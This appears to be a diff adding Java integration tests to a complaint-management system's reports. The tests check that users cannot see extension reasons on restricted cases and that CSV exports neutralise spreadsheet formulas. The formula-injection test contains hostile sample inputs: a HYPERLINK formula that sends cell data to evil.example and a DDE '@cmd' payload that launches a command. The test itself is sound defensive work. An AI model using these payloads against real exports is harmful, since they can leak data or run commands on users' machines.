@@ -20,6 +20,7 @@ import org.apache.pdfbox.text.PDFTextStripper;
 import org.hearken.identity.Role;
 import org.hearken.policy.PolicyTestSupport;
 import org.hearken.support.ApiClient;
+import org.hearken.support.FormSession;
 import org.hearken.support.IntegrationTest;
 import org.junit.jupiter.api.AfterEach;
 import org.junit.jupiter.api.BeforeEach;
@@ -373,6 +374,116 @@ class ReportsIT extends IntegrationTest {
         assertThat(lead.put("/api/reports/suggestions/" + suggestion, "{\"status\":\"MAYBE\"}", "application/json").status()).isEqualTo(400);
         assertThat(ok(lead.get("/api/reports/suggestions?department=" + d.code)).get("counts").get("ADOPTED").asLong()).isEqualTo(1);
         assertThat(secret).isNotBlank();
+    }
+
+    /** An open complaint in the department, extended with {@code reason}; about {@code about} when given. */
+    private String extended(Dept d, String by, String owner, boolean confidential, List<String> about, String reason) {
+        Map<String, Object> body = new LinkedHashMap<>();
+        body.put("kind", "COMPLAINT");
+        body.put("channel", "PHONE");
+        body.put("receivedAt", "2026-03-02T10:00:00+10:00");
+        body.put("subject", "Complaint");
+        body.put("description", "Details.");
+        body.put("customer", Map.of("name", "Robin Customer", "phone", "07 5550 1000", "preferredReply", "PHONE"));
+        body.put("department", d.code);
+        body.put("owner", owner);
+        body.put("confidential", confidential);
+        body.put("aboutStaff", about);
+        ApiClient.Response r = as(by).post("/api/cases", body);
+        assertThat(r.status()).as(r.body()).isEqualTo(201);
+        String ref = r.json().get("reference").asString();
+        ok(as(owner).post("/api/cases/" + ref + "/extend", Map.of("newDueDate", "2026-03-20", "reason", reason,
+                "noticeChannel", "PHONE_CALL")));
+        return ref;
+    }
+
+    @Test
+    void reasonsWrittenOnCasesTheReaderMayNotOpenAreCountedButNeverShown() throws Exception {
+        Dept d = department();
+        String agent = d.staff(Role.AGENT);
+        String executive = staffWithoutDepartment(Role.EXECUTIVE);
+        now("2026-03-02T10:05:00");
+        String open = "Open" + unique();
+        String aboutLead = "AboutLead" + unique();
+        String secret = "Secret" + unique();
+        String aboutExecutive = "AboutExec" + unique();
+        extended(d, d.lead, agent, false, List.of(), open);
+        extended(d, agent, agent, false, List.of(d.lead), aboutLead);
+        extended(d, d.lead, agent, true, List.of(), secret);
+        extended(d, d.lead, agent, false, List.of(executive), aboutExecutive);
+        String query = "from=2026-03-01&to=2026-03-31&department=" + d.code;
+
+        // The department's lead may open neither the complaint about him nor the confidential case.
+        Map<String, String> leadSees = everyReportAnswer(d.lead, query);
+        leadSees.forEach((where, text) -> assertThat(text).as(where).doesNotContain(aboutLead).doesNotContain(secret));
+        assertThat(leadSees.get("json")).contains(open).contains(aboutExecutive);
+        JsonNode reasons = ok(as(d.lead).get("/api/reports?" + query)).get("tables").get("extension-reasons");
+        assertThat(row(reasons, ReportQueries.UNLISTED_REASON)).as("counted, not shown").containsExactly(ReportQueries.UNLISTED_REASON, "2");
+
+        // The executive sees the complaint about the lead, never the one about himself; no list shows a confidential case.
+        Map<String, String> executiveSees = everyReportAnswer(executive, query);
+        executiveSees.forEach((where, text) -> assertThat(text).as(where).doesNotContain(aboutExecutive).doesNotContain(secret));
+        assertThat(executiveSees.get("csv")).contains(aboutLead).contains(open);
+    }
+
+    private static List<String> row(JsonNode table, String key) {
+        for (JsonNode r : table.get("rows")) {
+            if (r.get(0).asString().equals(key)) {
+                List<String> cells = new ArrayList<>();
+                r.forEach(c -> cells.add(c.asString()));
+                return cells;
+            }
+        }
+        throw new AssertionError("no row " + key + " in " + table);
+    }
+
+    /** The report as JSON, the extension reasons as CSV (API and page), the report page and the review pack's text. */
+    private Map<String, String> everyReportAnswer(String username, String query) throws Exception {
+        Map<String, String> answers = new LinkedHashMap<>();
+        answers.put("json", ok(as(username).get("/api/reports?" + query)).toString());
+        answers.put("csv", as(username).get("/api/reports/extension-reasons.csv?" + query).body());
+        FormSession page = new FormSession(port);
+        assertThat(page.signIn(username, PASSWORD)).isTrue();
+        answers.put("page", page.get("/reports?" + query).body());
+        answers.put("page csv", page.get("/reports/extension-reasons.csv?" + query).body());
+        try (PDDocument doc = Loader.loadPDF(pdfBytes(username, "/api/reports/pack.pdf?" + query))) {
+            answers.put("pdf", new PDFTextStripper().getText(doc));
+        }
+        return answers;
+    }
+
+    @Test
+    void everyCsvWritesTextThatASpreadsheetWouldRunAsAFormulaAsText() {
+        String formula = "=HYPERLINK(\"https://evil.example/?\"&A1,\"Open\")";
+        Dept d = department();
+        String agent = d.staff(Role.AGENT);
+        String executive = staffWithoutDepartment(Role.EXECUTIVE);
+        accounts.renameDepartment(d.code, "+SUM(1,2)");
+        String category = "C" + unique().substring(0, 8);
+        assertThat(admin.post("/api/categories", Map.of("code", category, "name", "@cmd|' /C calc'!A0")).status()).isEqualTo(201);
+        now("2026-03-02T10:05:00");
+        String ref = extended(d, d.lead, agent, false, List.of(), formula);
+        ok(as(agent).post("/api/cases/" + ref + "/respond", Map.of("channel", "PHONE_CALL", "resolution", "-1+1 done",
+                "outcome", "RESOLVED", "category", category)));
+        String query = "from=2026-03-01&to=2026-03-31&department=" + d.code;
+
+        Map<String, String> csvs = new LinkedHashMap<>();
+        for (String name : Reports.TABLES) {
+            csvs.put(name, as(executive).get("/api/reports/" + name + ".csv?" + query).body().substring(1));
+        }
+        ApiClient.Response register = as(executive).get("/api/register/export.csv");
+        assertThat(register.status()).isEqualTo(200);
+        csvs.put("register", register.body());
+        csvs.forEach((name, body) -> parse(body).forEach(record -> record.forEach(cell ->
+                assertThat(cell).as(name + ": " + cell).doesNotStartWith("=").doesNotStartWith("+").doesNotStartWith("-")
+                        .doesNotStartWith("@").doesNotStartWith("\t").doesNotStartWith("\r"))));
+        assertThat(parse(csvs.get("extension-reasons")).stream().map(r -> r.get(0)).toList()).contains("'" + formula);
+        assertThat(parse(csvs.get("categories")).stream().map(r -> r.get(1)).toList()).contains("'@cmd|' /C calc'!A0");
+        assertThat(parse(csvs.get("departments")).stream().map(r -> r.get(1)).toList()).contains("'+SUM(1,2)");
+        assertThat(parse(csvs.get("volume-by-department")).getFirst().toList()).contains("'+SUM(1,2)");
+        // The page and the JSON keep the text as it was written: only spreadsheets run formulas.
+        assertThat(ok(as(executive).get("/api/reports?" + query)).get("tables").get("extension-reasons").toString())
+                .contains(formula.replace("\"", "\\\""));
     }
 
     @Test
